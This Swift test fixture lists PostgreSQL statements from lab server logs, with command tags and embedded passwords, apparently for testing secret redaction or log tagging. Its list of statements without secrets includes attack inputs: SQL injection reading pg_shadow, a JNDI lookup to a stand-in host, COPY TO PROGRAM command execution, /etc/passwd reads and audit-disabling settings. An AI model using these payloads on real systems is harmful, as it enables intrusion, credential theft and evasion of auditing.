/// Statements that real servers logged in the lab, with their command tags and the secret in them.
enum CorpusStatements {
    static let withSecrets: [(sql: String, tag: String, secret: String)] = [
        ("CREATE ROLE app LOGIN PASSWORD 'App-Secret'", "CREATE ROLE", "App-Secret"),
        ("CREATE ROLE webshop_app LOGIN PASSWORD 'Pw-webshop_app-685248' IN ROLE staff", "CREATE ROLE", "Pw-"),
        (
            "CREATE ROLE etl_small LOGIN PASSWORD 'Pw-etl_small-155466' CONNECTION LIMIT 2 IN ROLE staff",
            "CREATE ROLE", "Pw-"
        ),
        ("CREATE ROLE lowpriv LOGIN PASSWORD 'Pw-lowpriv-404957'", "CREATE ROLE", "Pw-"),
        ("CREATE ROLE dba_karl LOGIN SUPERUSER PASSWORD 'Pw-dba_karl-910865'", "CREATE ROLE", "Pw-"),
        ("CREATE ROLE replicator LOGIN REPLICATION PASSWORD 'Pw-replicator-605670'", "CREATE ROLE", "Pw-"),
        (
            "CREATE ROLE old_intern LOGIN PASSWORD 'Pw-old_intern-152976' VALID UNTIL '2025-12-31' IN ROLE staff",
            "CREATE ROLE", "Pw-"
        ),
        (
            "CREATE ROLE group_accounting NOLOGIN PASSWORD 'Pw-group_accounting-709890' IN ROLE staff", "CREATE ROLE",
            "Pw-"
        ),
        ("CREATE ROLE svc93466 LOGIN PASSWORD 'Tr0ub4dor&93466'", "CREATE ROLE", "Tr0ub4dor"),
        ("ALTER ROLE svc93466 WITH ENCRYPTED PASSWORD 'it''s, \"93466\"'", "ALTER ROLE", "it''s"),
        ("ALTER USER svc93466 PASSWORD $$dollar'quoted93466$$", "ALTER ROLE", "dollar"),
        ("ALTER USER svc93466 PASSWORD E'esc\\'aped\\n93466'", "ALTER ROLE", "aped"),
        ("ALTER USER svc93466 PASSWORD U&'\\0441lo93466'", "ALTER ROLE", "0441"),
        ("ALTER ROLE svc93466 PASWORD 'typo-secret-93466'", "ALTER ROLE", "typo-secret"),
        ("ALTER ROLE nosuch93466 PASSWORD 'lost-secret-93466'", "ALTER ROLE", "lost-secret"),
        (
            "CREATE USER MAPPING FOR PUBLIC SERVER sv93466 OPTIONS (user 'u', password 'map-secret-93466')",
            "CREATE USER MAPPING", "map-secret"
        ),
        (
            "DO $$ BEGIN EXECUTE format('ALTER ROLE svc93466 PASSWORD %L', 'dyn-secret-93466'); END $$", "DO",
            "dyn-secret"
        ),
        (
            "ALTER SYSTEM SET primary_conninfo = 'host=10.0.0.1 user=repl password=conn-secret-93466'", "ALTER SYSTEM",
            "conn-secret"
        ),
        ("SELECT 'postgresql://u:url-secret-93466@10.0.0.1/db'", "SELECT", "url-secret"),
        (
            "SELECT * FROM dblink('host=127.0.0.1 port=15400 user=alice password=Pw-alice-042596 dbname=webshop "
                + "sslmode=disable', 'SELECT 1') AS t(a int)", "SELECT", "Pw-alice"
        ),
        (
            "SELECT dblink_connect('c1', 'host=127.0.0.99 port=15400 user=postgres password=guess dbname=postgres "
                + "connect_timeout=2 sslmode=disable')", "SELECT", "guess"
        ),
        (
            "CREATE SUBSCRIPTION sub_out CONNECTION 'host=203.0.113.9 user=r password=topsecret dbname=x' "
                + "PUBLICATION p WITH (connect = false)", "CREATE SUBSCRIPTION", "topsecret"
        ),
        ("CREATE ROLE r697_su WITH LOGIN SUPERUSER PASSWORD 'S3cret,\"x\"'", "CREATE ROLE", "S3cret"),
        ("ALTER ROLE r697_user PASSWORD 'changed-4817'", "ALTER ROLE", "changed-"),
        ("ALTER ROLE r697_user PASSWORD 'md50123456789abcdef0123456789abcdef'", "ALTER ROLE", "0123456789abcdef"),
        ("ALTER ROLE postgres PASSWORD 'backd00r-520'", "ALTER ROLE", "backd00r"),
    ]

    static let withoutSecrets: [(sql: String, tag: String)] = [
        ("CREATE DATABASE hr_secret OWNER dev_owner", "CREATE DATABASE"),
        ("CREATE SERVER sv93466 FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1')", "CREATE SERVER"),
        (
            "CREATE FOREIGN TABLE etc_passwd (l text) SERVER fsrv OPTIONS (filename '/etc/passwd')",
            "CREATE FOREIGN TABLE"
        ),
        ("SELECT set_config('log_min_error_statement', 'panic', false)", "SELECT"),
        ("SELECT usename, passwd FROM pg_shadow", "SELECT"),
        (
            "SELECT id, name, email FROM customers WHERE name = '1 UNION ALL SELECT usename,passwd FROM pg_shadow--'",
            "SELECT"
        ),
        ("SELECT id, name, email FROM customers WHERE name = '${jndi:ldap://203.0.113.5/a}'", "SELECT"),
        ("SELECT id, name, email FROM customers WHERE id = 1' OR '1'='1", "SELECT"),
        ("COPY (SELECT 1) TO PROGRAM 'id > /dev/null'", "COPY"),
        ("copy cmd_exec from program $$perl -e 'print \"x\\n\"'$$", "COPY"),
        ("COPY etcpw FROM '/etc/passwd'", "COPY"),
        ("DO $$ BEGIN RAISE WARNING 'password authentication failed for user \"alice\"'; END $$", "DO"),
        ("DO $$ BEGIN RAISE LOG 'AUDIT: SESSION,1,1,ROLE,DROP ROLE,,,DROP ROLE postgres,<none>'; END $$", "DO"),
        ("ALTER DEFAULT PRIVILEGES FOR ROLE dev_owner REVOKE ALL ON FUNCTIONS FROM PUBLIC", "ALTER DEFAULT PRIVILEGES"),
        ("GRANT pg_read_server_files, pg_execute_server_program TO dora", "GRANT ROLE"),
        ("GRANT CONNECT, TEMP ON DATABASE webshop TO dora", "GRANT"),
        ("REVOKE SELECT ON addresses FROM PUBLIC", "REVOKE"),
        ("ALTER ROLE r676_user VALID UNTIL 'infinity'", "ALTER ROLE"),
        ("ALTER ROLE chen SET pgaudit.log = 'none'", "ALTER ROLE"),
        ("set session log_min_duration_statement to -1", "SET"),
        ("create index on dev_owner.mig1 (v)", "CREATE INDEX"),
        ("/* 001_init */ CREATE TABLE dev_owner.mig1 (id int, v text)", "CREATE TABLE"),
        ("ALTER FUNCTION now() SET log_statement = 'none'", "ALTER FUNCTION"),
        ("DECLARE cur CURSOR WITH HOLD FOR SELECT * FROM customers", "DECLARE CURSOR"),
    ]
}
